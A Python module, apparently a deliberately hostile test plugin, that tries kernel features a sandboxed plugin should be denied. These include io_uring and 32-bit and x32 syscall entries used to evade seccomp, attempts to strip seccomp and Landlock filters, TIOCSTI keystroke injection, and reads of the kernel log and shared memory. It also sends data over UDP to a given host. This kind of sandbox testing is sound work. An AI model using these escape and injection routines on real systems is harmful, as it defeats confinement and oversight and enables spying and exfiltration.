"""Asks the kernel for what a plugin has no business with."""

import ctypes
import os
import socket
import stat
import struct
import termios
from concurrent.futures import ThreadPoolExecutor
from fcntl import ioctl

from cadence_sdk import tool

from .entries import call_by_32_bit, call_by_x32, low_buffer

_libc = ctypes.CDLL(None, use_errno=True)

_NOTIFY, _ALLOW = 0x7FC00000, 0x7FFF0000
_ADDR_NO_RANDOMIZE = 0x0040000

# x86_64 and, behind it, aarch64.
_BPF, _PERF, _ADD_KEY, _KEYCTL, _USERFAULTFD = (321, 280), (298, 241), (248, 217), (250, 219), (323, 282)
_SECCOMP, _IO_URING_SETUP = (317, 277), (425, 425)
_LANDLOCK_CREATE_RULESET, _LANDLOCK_RESTRICT_SELF = (444, 444), (446, 446)


def _checked(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def _call(number: tuple[int, int], *arguments: object) -> int:
    chosen = number[os.uname().machine != "x86_64"]
    passed = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return _checked(_libc.syscall(ctypes.c_long(chosen), *passed))


@tool
def ping() -> int:
    """Its process."""
    return os.getpid()


@tool
def mount(path: str) -> None:
    """Mount a file system of its own over a folder."""
    os.makedirs(path, exist_ok=True)
    _checked(_libc.mount(b"none", path.encode(), b"tmpfs", ctypes.c_ulong(0), None))


@tool
def mount_by_descriptor(path: str) -> None:
    """The same by the newer calls (fsopen(2), move_mount(2))."""
    os.makedirs(path, exist_ok=True)
    system = _call((430, 430), b"tmpfs", 0)
    _call((431, 431), system, 6, None, None, 0)
    mounted = _call((432, 432), system, 0, 0)
    _call((429, 429), mounted, b"", -100, path.encode(), 4)


@tool
def bpf() -> int:
    """Make a map for programs in the kernel."""
    attributes = struct.pack("IIIII", 2, 4, 4, 1, 0).ljust(128, b"\0")
    return _call(_BPF, 0, attributes, len(attributes))


@tool
def io_uring() -> int:
    """Make a queue by which system calls are made that no filter sees."""
    return _call(_IO_URING_SETUP, 8, ctypes.create_string_buffer(120))


@tool
def key(text: str) -> str:
    """Keep something with the kernel, and read it back."""
    process_keyring, read = -2, 11
    serial = _call(_ADD_KEY, b"user", b"attack", text.encode(), len(text), process_keyring)
    buffer = ctypes.create_string_buffer(256)
    length = _call(_KEYCTL, read, serial, buffer, len(buffer), 0)
    return buffer.raw[:length].decode()


@tool
def userfaultfd() -> int:
    """Handle its own page faults, which makes races in the kernel winnable."""
    return _call(_USERFAULTFD, 1)


@tool
def perf_events() -> int:
    """Watch what the processor does."""
    exclude_kernel_and_hypervisor = 0x60
    attributes = struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, exclude_kernel_and_hypervisor).ljust(112, b"\0")
    return _call(_PERF, attributes, 0, -1, -1, 0)


@tool
def open_by_handle(type_: int, handle: str) -> str:
    """Open a file by its number in the file system, passing by every folder and path."""
    packed = struct.pack("Ii", len(handle) // 2, type_) + bytes.fromhex(handle)
    here = os.open(".", os.O_RDONLY)
    descriptor = _checked(_libc.open_by_handle_at(here, packed, os.O_RDONLY))
    return os.read(descriptor, 4096).decode("latin-1")


@tool
def chroot() -> None:
    """Set a root directory, the first step out of one."""
    os.chroot("/")


@tool
def device(name: str) -> None:
    """Make a device."""
    os.mknod(name, stat.S_IFCHR | 0o600, os.makedev(1, 5))


@tool
def personality() -> int:
    """Have programs run without the protection that their addresses vary."""
    return _checked(_libc.personality(_ADDR_NO_RANDOMIZE))


@tool
def type_into_terminal(path: str, text: str) -> None:
    """Put characters into a terminal as if its user had typed them."""
    terminal = os.open(path, os.O_RDWR)
    for character in text.encode():
        ioctl(terminal, termios.TIOCSTI, bytes([character]))


@tool
def kernel_log() -> str:
    """What the kernel has logged."""
    read_all, buffer = 3, ctypes.create_string_buffer(1 << 16)
    length = _checked(_libc.klogctl(read_all, buffer, len(buffer)))
    return buffer.raw[:length].decode("latin-1")


@tool
def watch_all_files() -> int:
    """Be told of every file that anyone opens."""
    return _checked(_libc.fanotify_init(0, os.O_RDONLY))


@tool
def shared_segment(key: int) -> str:
    """Read memory that other processes share (System V)."""
    segment = _checked(_libc.shmget(key, 0, 0))
    _libc.shmat.restype = ctypes.c_void_p
    address = _libc.shmat(segment, None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(address).decode("latin-1")


@tool
def answer_own_calls() -> int:
    """Become who is asked about this process's own system calls (seccomp(2), SECCOMP_FILTER_FLAG_NEW_LISTENER)."""
    _checked(_libc.prctl(38, 1, 0, 0, 0))
    return _load_filter(_NOTIFY, 8)


@tool
def clear_filters(host: str, port: int, text: str) -> None:
    """Take every filter off, or put one that allows everything on top, then send."""
    # In a thread that ends with it: Landlock, once it is asked for, lets no thread mount any more that asked, and this
    # one makes other attacks too.
    with ThreadPoolExecutor(1) as pool:
        pool.submit(_clear_filters, host, port, text).result()


def _clear_filters(host: str, port: int, text: str) -> None:
    for attempt in (
        lambda: _libc.prctl(38, 0, 0, 0, 0),
        lambda: _libc.prctl(22, 0, 0, 0, 0),
        lambda: _libc.prctl(38, 1, 0, 0, 0),
        lambda: _load_filter(_ALLOW, 0),
        lambda: _load_filter(_ALLOW, 1),
        _allow_all_by_landlock,
    ):
        try:
            attempt()
        except OSError as error:
            print(error)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(text.encode(), (host, port))


def _load_filter(verdict: int, flags: int) -> int:
    """A filter with a verdict of its own about one system call that nobody makes, and none about the others."""
    unused = 0xFFFF
    steps = ((0x20, 0, 0, 0), (0x15, 0, 1, unused), (0x06, 0, 0, verdict), (0x06, 0, 0, _ALLOW))
    code = b"".join(struct.pack("=HBBI", *step) for step in steps)
    program = ctypes.create_string_buffer(code, len(code))
    return _call(_SECCOMP, 1, flags, struct.pack("@HP", len(steps), ctypes.addressof(program)))


def _allow_all_by_landlock() -> None:
    ruleset = _call(_LANDLOCK_CREATE_RULESET, struct.pack("QQ", 1, 1), 16, 0)
    _call(_LANDLOCK_RESTRICT_SELF, ruleset, 0)


@tool
def udp_by_32_bit(host: str, port: int, text: str) -> None:
    """Send by UDP through the entry for 32-bit programs, whose calls have other numbers."""
    socket_, sendto = 359, 369
    descriptor = call_by_32_bit(socket_, socket.AF_INET, socket.SOCK_DGRAM, 0)
    address = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
    payload = text.encode()
    at = low_buffer(address + payload)
    call_by_32_bit(sendto, descriptor, at + len(address), len(payload), 0, at, len(address))


@tool
def udp_by_x32(host: str, port: int, text: str) -> None:
    """Send by UDP through the x32 entry."""
    descriptor = call_by_x32(41, socket.AF_INET, socket.SOCK_DGRAM, 0)
    with socket.socket(fileno=descriptor) as sender:
        sender.sendto(text.encode(), (host, port))


TOOLS = [
    ping,
    mount,
    mount_by_descriptor,
    bpf,
    io_uring,
    key,
    userfaultfd,
    perf_events,
    open_by_handle,
    chroot,
    device,
    personality,
    type_into_terminal,
    kernel_log,
    watch_all_files,
    shared_segment,
    answer_own_calls,
    clear_filters,
    udp_by_32_bit,
    udp_by_x32,
]
